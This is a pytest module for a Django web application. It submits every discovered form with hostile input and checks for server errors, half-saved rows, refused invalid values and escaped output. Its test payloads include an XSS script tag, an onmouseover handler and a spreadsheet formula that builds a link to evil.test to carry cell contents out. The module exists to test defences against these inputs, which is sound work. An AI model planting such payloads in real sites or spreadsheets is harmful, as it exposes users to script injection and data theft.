"""The bad-input sweep: every form of the site, filled with what an attacker types.

Every page of council A (and the user's own pages) is opened by someone who may use
every form there: the superuser, who also acts for a member organisation and leads a
project. Each form found in the HTML is sent as a browser would send it, with its
fields replaced by:

- nothing at all;
- 100,000 characters in every text field (and a date in the year 9999);
- the year 1 in its first date;
- numbers of 20 digits (amounts, years, ids of choices and hidden fields);
- HTML and script mixed with right-to-left text, emoji and a spreadsheet formula.

Every other field holds what a careful user would enter, so the form is refused for
the payload and not for something else.

For each: no server error. A form that is refused is shown again with a message and
has written nothing (no INSERT, UPDATE or DELETE): no half-saved rows. Too long text
and impossible dates are always refused. What is accepted is shown escaped: the
script never comes back as markup, on the answer or the page it leads to.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timedelta
from html.parser import HTMLParser
from http import HTTPStatus
from urllib.parse import urljoin, urlsplit

import pytest
from django.db import connection, transaction
from django.utils import timezone

from members.models import Representative
from projects.models import Project
from tests.urlwalk import NOT_DATA, council_urls, is_council_url
from tests.world import MEMBER, SUPERUSER

LONG = "x" * 100_000
HUGE = "99999999999999999999"
SCRIPT = '<script>alert("ketenoverleg")</script>'
FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"klik")'
HOSTILE_TEXT = f'{FORMULA} {SCRIPT}<b onmouseover="alert(1)">مرحبا שלום ‮evil‬ 👩‍🔬🧱</b>'
TEXT_TYPES = {"text", "search", "email", "url", "tel", "password", None}
WRITE = re.compile(r"^\s*(INSERT|UPDATE|DELETE)\b", re.IGNORECASE)
MANAGEMENT = re.compile(r"-(TOTAL|INITIAL|MIN_NUM|MAX_NUM)_FORMS$")
ERROR_MARKERS = ("errorlist", "form-errors", "field-invalid", "message-error")
# Forms that are not ours to sweep: Django's admin, allauth's accounts, the language.
SKIPPED_ACTIONS = ("/admin/", "/accounts/", "/i18n/")


@dataclass
class Field:
    name: str
    kind: str  # the input type, "textarea" or "select"
    value: str = ""
    checked: bool = False
    options: list[str] = field(default_factory=list)
    multiple: bool = False


@dataclass
class Form:
    page: str
    action: str
    method: str
    fields: list[Field] = field(default_factory=list)

    @property
    def key(self) -> tuple:
        return (self.method, self.action, tuple(sorted(f.name for f in self.fields)))

    def has(self, *kinds) -> bool:
        return any(f.kind in kinds for f in self.fields)


class Forms(HTMLParser):
    """The forms of a page, with their fields as a browser would send them."""

    def __init__(self, page: str):
        super().__init__()
        self.page = page
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._textarea: Field | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            action = urljoin(self.page, a.get("action") or self.page)
            self._form = Form(self.page, action, (a.get("method") or "get").lower())
            self.forms.append(self._form)
        elif self._form is None or "disabled" in a:
            return
        elif tag == "input" and a.get("name"):
            kind = (a.get("type") or "text").lower()
            # Dates are typed as text (dag-maand-jaar); the field says it holds a date.
            kind = {"date": "date", "datetime": "datetime-local"}.get(a.get("data-format"), kind)
            if kind in {"submit", "button", "image", "reset", "file"}:
                return
            self._form.fields.append(
                Field(a["name"], kind, a.get("value", "on" if kind == "checkbox" else ""))
            )
            self._form.fields[-1].checked = "checked" in a
        elif tag == "textarea" and a.get("name"):
            self._textarea = Field(a["name"], "textarea")
            self._form.fields.append(self._textarea)
        elif tag == "select" and a.get("name"):
            self._select = Field(a["name"], "select", multiple="multiple" in a)
            self._form.fields.append(self._select)
        elif tag == "option" and self._select is not None:
            self._select.options.append(a.get("value", ""))
            if "selected" in a:
                self._select.value = a.get("value", "")
                self._select.checked = True

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data


def forms_on(page: str, html: str) -> list[Form]:
    parser = Forms(page)
    parser.feed(html)
    return parser.forms


def plausible(form: Form) -> dict[int, str]:
    """A value for every field that a careful user would have entered: what the page
    shows, or else something valid of the field's type (the second date of a form
    after the first, so "ends after it starts" holds). Each payload then spoils one
    kind of field, so a form is refused for that kind and not for another."""
    today = timezone.localdate()
    values, dates, moments = {}, 0, 0
    for index, f in enumerate(form.fields):
        value = f.value
        if f.kind == "select":
            chosen = f.value if f.checked else next((o for o in f.options if o), "")
            value = chosen
        elif value:
            pass
        elif f.kind == "textarea":
            value = "Een zorgvuldig ingevulde tekst."
        elif f.kind == "email":
            value = "proef@voorbeeld.nl"
        elif f.kind == "url":
            value = "https://voorbeeld.nl/"
        elif f.kind == "number":
            value = "1"
        elif f.kind == "date":
            value = (today + timedelta(days=30 * dates)).isoformat()
            dates += 1
        elif f.kind == "datetime-local":
            value = f"{today + timedelta(days=7):%Y-%m-%d}T{10 + 2 * moments:02d}:00"
            moments += 1
        elif f.kind in TEXT_TYPES:
            value = PLAUSIBLE_TEXT.get(f.name.rsplit("-", 1)[-1], "Proef")
        values[index] = value
    return values


def as_sent(form: Form, replace) -> dict[str, list[str]]:
    """The data a browser sends, each field's value passed through ``replace``."""
    data: dict[str, list[str]] = {}
    values = plausible(form)
    radio_groups = {f.name for f in form.fields if f.kind == "radio" and f.checked}
    for index, f in enumerate(form.fields):
        if f.kind == "checkbox" and not f.checked:
            continue
        if f.kind == "radio" and (f.checked is False and f.name in radio_groups):
            continue
        if f.kind == "radio" and f.name in data:
            continue
        value = replace(f, values[index])
        if value is not None:
            data.setdefault(f.name, []).append(value)
    return data


PLAUSIBLE_TEXT = {"kvk_number": "12345678", "slug": "proef-overleg", "confirm": "nee"}


def nothing(f: Field, value: str) -> str | None:
    if f.kind == "hidden" or MANAGEMENT.search(f.name):
        return value
    if f.kind in {"checkbox", "radio"}:
        return None
    return ""


def too_long(f: Field, value: str) -> str:
    if f.kind in TEXT_TYPES or f.kind == "textarea":
        return LONG + "@voorbeeld.nl" if f.kind == "email" else LONG
    if f.kind == "date":
        return "9999-12-31"
    if f.kind == "datetime-local":
        return "9999-12-31T23:59"
    return value


def year_one():
    """The first date of the form in the year 1 (the others stay plausible, so a
    check such as "ends after it starts" does not refuse the form first)."""
    done = []

    def replace(f: Field, value: str) -> str:
        if f.kind in {"date", "datetime-local"} and not done:
            done.append(f.name)
            return "0001-01-01" if f.kind == "date" else "0001-01-01T00:00"
        return value

    return replace


def huge_numbers(f: Field, value: str) -> str:
    """Amounts, years and ids of 20 digits: in number fields, choices and hidden ids."""
    if f.kind == "number" or (f.kind in {"select", "radio", "checkbox"} and value.isdigit()):
        return HUGE
    if f.kind == "hidden" and value.isdigit() and not MANAGEMENT.search(f.name):
        return HUGE
    return value


def typed(text: str):
    def replace(f: Field, value: str) -> str:
        if f.kind in {"text", "search", "textarea", None} and f.name not in PLAUSIBLE_TEXT:
            return text
        return value

    return replace


# Each makes the replacing function for one form.
PAYLOADS = {
    "leeg": lambda: nothing,
    "100.000 tekens en het jaar 9999": lambda: too_long,
    "het jaar 1": year_one,
    "getallen van 20 cijfers": lambda: huge_numbers,
    "html, script, rtl, emoji en een formule": lambda: typed(HOSTILE_TEXT),
}
# Text that is accepted and shown again: its page is checked for escaping.
SHOWN_BACK = {"html, script, rtl, emoji en een formule"}
# Which payloads a form must refuse, by the kinds of field that carry them.
MUST_REFUSE = {
    "100.000 tekens en het jaar 9999": {
        "text",
        "search",
        "email",
        "url",
        "tel",
        "textarea",
        "date",
        "datetime-local",
    },
    "het jaar 1": {"date", "datetime-local"},
}


@contextmanager
def writes_recorded() -> Iterator[list[str]]:
    statements: list[str] = []

    def record(execute, sql, params, many, context):
        if WRITE.match(sql) and not any(table in sql for table in NOT_DATA):
            statements.append(sql.split("(")[0][:100])
        return execute(sql, params, many, context)

    with connection.execute_wrapper(record):
        yield statements


@pytest.fixture
def sweeper(world, client):
    """The superuser, who also signs for A's member and leads A's running project."""
    user = world.person(SUPERUSER)
    member_org = world.a.people[MEMBER].representations.get().organisation
    Representative.objects.create(organisation=member_org, user=user, may_sign=True)
    Project.objects.filter(council=world.a.council, status=Project.Status.LOPEND).update(
        leader=user
    )
    client.force_login(user)
    return user


def sweep_pages(world) -> list[str]:
    """Every page of council A for each of its objects, the user's own pages, /nieuw/."""
    urls = council_urls(world.a.council, every=6)
    own = [u for u in urls if is_council_url(u, world.a.council)]
    mine = [u for u in urls if u.startswith("/mijn-gegevens/")]
    return [*own, *mine, "/nieuw/"]


_discovered: list[Form] = []


def discover(client, pages) -> list[Form]:
    """The forms on ``pages`` (each once); the same for every payload, so found once."""
    if _discovered:
        return _discovered
    found: dict[tuple, Form] = {}
    for page in pages:
        response = client.get(page)
        if response.status_code != HTTPStatus.OK or "html" not in response["Content-Type"]:
            continue
        for form in forms_on(page, response.content.decode()):
            path = urlsplit(form.action).path
            if path.startswith(SKIPPED_ACTIONS) or not form.fields:
                continue
            found.setdefault(form.key, form)
    _discovered.extend(found.values())
    return _discovered


def submit(client, user, form: Form, data, *, follow: bool):
    with transaction.atomic():
        if "_auth_user_id" not in client.session:  # a form may log the user out
            client.force_login(user)
        with writes_recorded() as writes:
            if form.method == "post":
                response = client.post(form.action, data)
            else:
                response = client.get(form.action, data)
        followed = None
        # Follow a redirect to see where accepted text is shown, or the message of a
        # refusal that went back to the page.
        if (follow or not writes) and response.status_code in {
            HTTPStatus.FOUND,
            HTTPStatus.SEE_OTHER,
        }:
            target = response["Location"]
            if urlsplit(target).path and not target.startswith("http"):
                followed = client.get(target)
        transaction.set_rollback(True)
    return response, followed, writes


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_every_form_survives_hostile_input(db, client, world, sweeper, payload):
    forms = discover(client, sweep_pages(world))
    problems = []
    posted = 0
    for form in forms:
        data = as_sent(form, PAYLOADS[payload]())
        try:
            response, followed, writes = submit(
                client, sweeper, form, data, follow=payload in SHOWN_BACK
            )
        except Exception as exc:  # the test client re-raises a view's exception
            problems.append(f"{form.method.upper()} {form.action}: {type(exc).__name__}: {exc}")
            continue
        posted += form.method == "post"
        where = f"{form.method.upper()} {form.action} (from {form.page})"
        status = response.status_code
        if status >= HTTPStatus.INTERNAL_SERVER_ERROR:
            problems.append(f"{where}: status {status}")
            continue
        html = response.content.decode("utf-8", errors="replace")
        if followed is not None and not writes:
            # Some small forms refuse by going back with a message (ending a role).
            html = followed.content.decode("utf-8", errors="replace")
        # A 200 that is no page is a download the form asked for (the data export).
        shown_again = status == HTTPStatus.OK and response["Content-Type"].startswith("text/html")
        refused = form.method == "post" and (
            shown_again or (not writes and "message-error" in html)
        )
        if refused and writes:
            problems.append(f"{where}: refused but wrote {sorted(set(writes))}")
        if refused and not any(marker in html for marker in ERROR_MARKERS):
            problems.append(f"{where}: shown again without a message")
        if form.method == "post" and form.has(*MUST_REFUSE.get(payload, ())) and not refused:
            problems.append(f"{where}: accepted {payload} (status {status}, wrote {writes})")
        for page in (response, followed):
            if page is not None and SCRIPT in page.content.decode("utf-8", errors="replace"):
                problems.append(f"{where}: the script comes back unescaped")

    assert posted > 40, "the sweep found the site's forms"
    assert problems == []
